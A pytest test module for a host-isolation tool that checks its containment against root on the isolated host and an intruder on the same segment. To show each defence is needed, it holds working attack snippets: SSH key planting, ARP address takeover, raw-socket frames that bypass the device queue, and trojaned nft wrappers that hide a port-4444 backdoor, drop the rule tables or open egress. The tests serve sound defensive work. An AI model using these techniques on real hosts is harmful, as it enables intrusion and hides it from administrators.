"""Containment against root on the isolated host, and against an intruder on its segment.

Each way out is shown to work first, with the defence taken away: a macvlan in a network namespace, raw packets, an nft
that lies, an address that was taken over. The frames are UDP of our own to the lab's own addresses.
"""

from __future__ import annotations

import shlex
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from isolation_stage import ECHO, Held, Run, Stage, soon, without_hooks

from ungcuu.contain import cut_off, early, readback
from ungcuu.core.phrases import Detail, phrase
from ungcuu.core.sentences import shown
from ungcuu.hosts import remote_program
from ungcuu.lab import Lab

pytestmark = pytest.mark.nightly

SPACE = """
set -e
ip link add mv0 link eth0 type macvlan mode bridge
systemd-run -q --unit=space unshare -n sleep 900
until pid=$(pgrep -f '^sleep 900$'); do sleep 0.1; done
ip link set mv0 netns $pid
nsenter -t $pid -n sh -c "ip addr add {address}/28 dev mv0; ip link set mv0 up; ip link set lo up"
"""
NO_SPACE = "systemctl stop space; systemctl reset-failed; ip link del mv0 2>/dev/null; true"
# Frames of UDP with a mark in them, by a raw socket, past the queue of the device where "bypass" is given.
RAW = """
import socket, struct, sys
mark, source, target, sport, dport, bypass = sys.argv[1].encode(), *sys.argv[2:5], int(sys.argv[5]), sys.argv[6]
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
if bypass == "bypass":
    line.setsockopt(263, 20, 1)
line.bind(("eth0", 0))
udp = struct.pack(">HHHH", int(sport), dport, 8 + len(mark), 0) + mark
head = struct.pack(">BBHHHBBH4s4s", 69, 0, 20 + len(udp), 1, 0, 64, 17, 0, *map(socket.inet_aton, (source, target)))
total = sum(struct.unpack(">10H", head))
total = (total & 0xffff) + (total >> 16)
head = head[:10] + struct.pack(">H", ~total & 0xffff) + head[12:]
for _ in range(20):
    try:
        line.send(b"\\xff" * 6 + line.getsockname()[4] + b"\\x08\\x00" + head + udp)
    except OSError:
        pass
"""
HEAR = """
import socket, sys, time
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
line.settimeout(0.2)
end, heard = time.time() + 4, 0
while time.time() < end:
    try:
        heard += sys.argv[1].encode() in line.recv(2048)
    except OSError:
        pass
print(heard)
"""
# "The address SOURCE is at my hardware address", to everybody on the segment.
TAKE = """
import socket, struct, sys, time
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
line.bind(("eth0", 0))
mine, theirs, asked = line.getsockname()[4], *map(socket.inet_aton, sys.argv[1:3])
for _ in range(4):
    for kind in (1, 2):
        body = struct.pack(">HHBBH6s4s6s4s", 1, 2048, 6, 4, kind, mine, theirs, b"\\xff" * 6, asked)
        line.send(b"\\xff" * 6 + mine + b"\\x08\\x06" + body)
    time.sleep(0.6)
"""
PLANT = """
key=$(cat)
for home in /root /home/ungcuu; do
    mkdir -p -m 700 $home/.ssh; cp -p $home/.ssh/authorized_keys $home/.ssh/kept 2>/dev/null
    echo "$key" >> $home/.ssh/authorized_keys
    chown -R $(stat -c %U $home) $home/.ssh
done
"""
# An nft that hides a door; one that takes the tables away later and lists what was; one that opens a way out.
HIDES = """
case "$*" in
    *list*) nft.real "$@" | grep -v 4444 ;;
    *-f*) nft.real "$@" && nft.real insert rule inet ungcuu_isolation input tcp dport 4444 accept 2>/dev/null; true ;;
    *) exec nft.real "$@" ;;
esac
"""
LATER = """
case "$*" in
    *list*) cat /run/liar ;;
    *monitor*) exec sleep 900 ;;
    *-f*) nft.real "$@"; nft.real -s list ruleset >/run/liar
        (sleep 8; for f in inet netdev; do nft.real delete table $f ungcuu_isolation; done) >/dev/null 2>&1 & ;;
    *) exec nft.real "$@" ;;
esac
"""
OPENS = """
case "$*" in
    "-f -") sed '/hook \\(output\\|egress\\) /a tcp dport 443 accept' | nft.real -f - ;;
    *) exec nft.real "$@" ;;
esac
"""
STANDING = "sshd -T | sort; find /etc/ssh /etc/systemd /run/systemd/system -name '*ungcuu*'; systemctl cat nftables"
HONEST = "[ ! -e /usr/sbin/nft.real ] || mv /usr/sbin/nft.real /usr/sbin/nft"


@pytest.fixture(scope="module")
def stage(fresh: Callable[..., Lab]) -> Iterator[Stage]:
    """A website, its vault and an intruder."""
    made = Stage(fresh("web01", "vault01", "intruder01"))
    yield made
    _clean(made)


@pytest.fixture
def opened(stage: Stage) -> Iterator[Stage]:
    """The host open before and after."""
    _clean(stage)
    for host in ("web01", "intruder01"):
        stage.on(host, f"systemctl is-active -q echo || systemd-run -q --unit=echo python3 -c {shlex.quote(ECHO)}")
    yield stage
    _clean(stage)


def _clean(stage: Stage) -> None:
    stage.on(
        "web01",
        f"{HONEST}; {NO_SPACE}; rm -f /etc/ssh/sshd_config.d/00-000-* /etc/ssh/ungcuu-isolation.keys; "
        "systemctl reset-failed; systemctl restart ssh",
    )
    stage.open()


class InSpace(Held):
    """A connection that is held from the network namespace of the intruder."""

    def run(self) -> None:
        sent = remote_program.question("reachability", {"ask": "hold", **self.ask}).decode()
        inside = "nsenter -t $(pgrep -f '^sleep 900$') -n python3 -I -"
        self.answer = remote_program.answer_in(self.stage.on("web01", inside, sent))


@pytest.mark.parametrize("hooks", [True, False])
def test_a_macvlan_in_a_namespace_dies_with_the_rest(opened: Stage, hooks: bool) -> None:
    """Seen living on without the hooks on devices, which is what the second case shows each time."""
    address = opened.lab.address("web01").rsplit(".", 1)
    opened.on("web01", SPACE.format(address=f"{address[0]}.{int(address[1]) + 9}"))
    session = InSpace(opened, "web01", opened.lab.address("intruder01"), 9)
    time.sleep(3)
    kept = opened.card()
    ended = cut_off.cut(kept if hooks else without_hooks(kept))
    loaded = time.time()
    assert (ended.ending, ended.hooks) == ("cut", "yes" if hooks else "rules"), ended.detail
    assert b"mv0" not in ended.snapshot.partition(b"== packet_filter")[0] or b"macvlan" in ended.snapshot
    assert b"net:[" in ended.snapshot, "other network namespaces are not in the snapshot"
    session.join(30)
    assert session.answer["answers"] > 10, "the session never worked, so its death proves nothing"
    if hooks:
        assert session.answer["last"] < loaded + 1
        assert session.answer["until"] > loaded + 3, "the session ended by itself"
    else:
        assert session.answer["last"] > loaded + 2


def _heard(stage: Stage, mark: str, target: str, ports: tuple[int, int] = (7000, 7000), how: str = "queue") -> int:
    """How many frames with a mark reach the intruder's other machine."""
    ear = f"systemd-run -q --unit=ear --pipe --wait python3 -c {shlex.quote(HEAR)} {mark}"
    words = f"{mark} {stage.lab.address('web01')} {target} {ports[0]} {ports[1]} {how}"
    send = f"sleep 1; python3 -c {shlex.quote(RAW)} {words}"
    sender = threading.Thread(target=lambda: stage.on("web01", send))
    sender.start()
    heard = int(stage.on("intruder01", ear))
    sender.join()
    return heard


@pytest.mark.parametrize("how", ["queue", "bypass"])
def test_raw_packets_stay_inside(opened: Stage, how: str) -> None:
    """Seen passing the rules of the IP layer, which is what the middle case shows each time."""
    there = opened.lab.address("intruder01")
    assert _heard(opened, "markbefore", there, how=how) == 20
    assert cut_off.cut(without_hooks(opened.card())).done
    assert _heard(opened, "markhalf", there, how=how) == 20
    assert cut_off.cut(opened.card()).hooks == "yes"
    assert _heard(opened, "markafter", there, how=how) == 0
    # A DHCP client's broadcast is the one exception that is left: without it the host would lose its address.
    assert _heard(opened, "marklease", "255.255.255.255", (68, 67), how) == 20
    assert _heard(opened, "marklease2", there, (68, 67), how) == 0


def test_a_device_that_appears_later_is_closed(opened: Stage, playbook: Any) -> None:
    """A cable that is plugged in, a tunnel, a container. Seen open with the guard stopped."""
    assert playbook("isolate", "web01").returncode == 0
    rules = opened.rules()
    add, gone = "ip link add late0 type veth peer name late1; ip link set late0 up", "ip link del late0"
    opened.on("web01", f"systemctl stop ungcuu-isolation-guard; {add}; sleep 1")
    assert "late0" not in opened.rules(), "something else than the guard closes it"
    opened.on("web01", f"{gone}; systemctl start ungcuu-isolation-guard; sleep 2")
    opened.on("web01", add)
    soon(lambda: opened.rules().count("late0") == 2, "the device stays open")
    opened.on("web01", gone)
    soon(lambda: opened.rules().count("eth0") == 2, "the other device was opened")
    opened.on("web01", "nft delete table netdev ungcuu_isolation")
    soon(lambda: "hook egress" in opened.rules(), "the hooks of devices were not put back")
    assert rules.count("policy drop") == 5


@pytest.mark.parametrize("liar", [HIDES, LATER, OPENS], ids=["hides", "later", "opens"])
def test_an_nft_that_lies_is_noticed(opened: Stage, ungcuu: Run, liar: str) -> None:
    """Three ways to lie, of which a reading by the host's own nft would see none. Not tried with such a reading."""
    opened.card()
    trojan = "mv /usr/sbin/nft /usr/sbin/nft.real; cat > /usr/sbin/nft; chmod 755 /usr/sbin/nft"
    opened.on("web01", trojan, "#!/bin/sh\n" + liar)
    code, document, said = ungcuu("isolate", "web01")
    taken = [row["data"] for row in document["records"] if row["kind"] == "proof"]
    wrong = [row for row in taken if row["name"] == "rules_held" and row["passed"] is False]
    assert wrong, taken
    assert code != 0
    assert "isolated, and proven" not in said


def test_an_address_that_was_taken_over_gives_no_login(opened: Stage, ungcuu: Run) -> None:
    """Three layers, each taken away in turn: seen with a shell on the isolated host once all are gone."""
    lab, vault = opened.lab, opened.lab.address("vault01")
    opened.on("intruder01", "rm -f /tmp/planted*; ssh-keygen -q -t ed25519 -N '' -f /tmp/planted")
    opened.on("web01", PLANT, opened.on("intruder01", "cat /tmp/planted.pub"))
    opened.on("web01", f"python3 -c \"import socket; socket.create_connection(('{vault}', 22)).close()\"")
    opened.card()
    code, document, said = ungcuu("isolate", "web01")
    assert code == 0, said
    taken = {row["data"]["name"]: row["data"] for row in document["records"] if row["kind"] == "proof"}
    assert taken["own_keys_only"]["passed"] is True, taken
    assert f"{vault} at" in shown(taken["neighbours_fixed"]["detail"])
    mac = opened.on("web01", "cat /sys/class/net/eth0/address").strip()
    target = lab.address("web01")
    opened.on(
        "intruder01",
        f"ip addr add {vault}/32 dev eth0; ip neigh replace {target} lladdr {mac} dev eth0 nud permanent",
    )
    try:
        assert _login(opened, vault) == "no connection", "the neighbour was not fixed"
        opened.on("web01", f"systemctl stop ungcuu-isolation-guard; ip neigh del {vault} dev eth0")
        assert _login(opened, vault) == "refused", "the key was let in"
        opened.on("web01", "rm /etc/ssh/sshd_config.d/00-000-*; systemctl reload ssh; sleep 1")
        assert _login(opened, vault) == "shell", "the attack does not work, so the defence proves nothing"
    finally:
        opened.on("intruder01", f"ip addr del {vault}/32 dev eth0; ip neigh del {target} dev eth0")
        kept = "/home/ungcuu/.ssh/kept"
        opened.on("web01", f"rm -f /root/.ssh/authorized_keys; mv {kept} /home/ungcuu/.ssh/authorized_keys")


def _login(stage: Stage, source: str) -> str:
    """What an intruder gets who says to be the vault and has a key that was planted."""
    target = stage.lab.address("web01")
    stage.on("intruder01", f"python3 -c {shlex.quote(TAKE)} {source} {target}")
    options = "-b {} -i /tmp/planted -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=4 -o LogLevel=ERROR"
    said = stage.on("intruder01", f"ssh {options.format(source)} ungcuu@{target} echo in 2>&1 || true")
    if said.strip() == "in":
        return "shell"
    return "refused" if "Permission denied" in said else "no connection"


@pytest.mark.parametrize("mode", early.MODES)
def test_what_nft_loads_is_what_is_expected(opened: Stage, mode: str) -> None:
    """The expected rules are written twice, as nft's text and as the kernel's; and one rule more is seen."""
    kept = opened.card()
    assert cut_off.cut(kept, mode).done
    wanted = readback.Wanted(mode, kept.allow, 22, () if mode == "full" else (80, 443))
    program = remote_program.question("packet_filter", wanted.order()).decode()

    def rows() -> dict[str, Any]:
        answer = remote_program.answer_in(opened.on("web01", "python3 -I -", program))
        return {row["name"]: row for row in readback.judge(answer, wanted, phrase(Detail.FIRST_TIME))}

    assert rows()["rules_held"]["passed"] is True, rows()
    assert rows()["devices_closed"]["passed"] is True, rows()
    for door in (
        "insert rule inet ungcuu_isolation input tcp dport 4444 accept",
        "add element netdev ungcuu_isolation management_ipv4 { 203.0.113.9 }",
        "add chain inet ungcuu_isolation forward '{ policy accept; }'",
        "add table inet ungcuu_isolation '{ flags dormant; }'",
        "delete table netdev ungcuu_isolation",
    ):
        assert cut_off.cut(kept, mode).done
        opened.on("web01", f"nft {door}")
        assert rows()["rules_held"]["passed"] is False, door


def test_all_of_it_outlasts_a_restart_and_goes_with_the_release(opened: Stage, ungcuu: Run) -> None:
    """A reboot is the oldest way to get rid of a rule; a release that leaves a rule is an outage nobody understands."""
    before = opened.on("web01", STANDING)
    opened.card()
    assert ungcuu("isolate", "web01")[0] == 0
    rules = opened.rules()
    assert "PERMANENT" in opened.on("web01", f"ip neigh show to {opened.lab.address('controller')}")
    opened.restart()
    soon(lambda: opened.rules() == rules, "the rules did not come back")
    assert "PERMANENT" not in opened.on("web01", "ip neigh"), "there is no way back when a hardware address changes"
    assert opened.alive_from_outside() == []
    assert ungcuu("isolate", "web01")[0] == 0
    opened.reassessed()
    code, _document, said = ungcuu("release", "web01", "--confirm-host", "web01")
    assert code == 0, said
    assert opened.rules() == ""
    assert "PERMANENT" not in opened.on("web01", "ip neigh")
    after = opened.on("web01", STANDING)
    assert after == before
    assert opened.on("web01", "cd /; find etc/ungcuu run/ungcuu -type f 2>/dev/null || true") == ""
